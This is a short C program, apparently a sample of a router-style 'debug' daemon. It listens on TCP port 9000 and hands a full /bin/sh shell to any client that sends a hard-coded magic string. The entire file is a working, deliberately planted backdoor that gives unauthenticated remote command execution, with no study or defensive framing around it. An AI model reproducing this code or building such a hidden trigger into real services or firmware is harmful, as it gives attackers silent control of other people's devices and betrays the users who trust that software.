/* A router-style debug daemon: reads a line from a TCP client; one magic line gets a shell. */
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static void serve(int fd) {
  char buf[128];
  ssize_t n = recv(fd, buf, sizeof buf - 1, 0);
  if (n <= 0) return;
  buf[n] = 0;
  buf[strcspn(buf, "\r\n")] = 0;
  if (strcmp(buf, "xmlset_roodkcableoj28840ybtide") == 0) {
    dup2(fd, 0);
    dup2(fd, 1);
    dup2(fd, 2);
    execl("/bin/sh", "sh", (char *)0);
  }
  send(fd, "unknown command\n", 16, 0);
}

int main(void) {
  int s = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in a = {0};
  a.sin_family = AF_INET;
  a.sin_port = htons(9000);
  bind(s, (struct sockaddr *)&a, sizeof a);
  listen(s, 4);
  for (;;) {
    int c = accept(s, 0, 0);
    if (c < 0) continue;
    serve(c);
    close(c);
  }
}
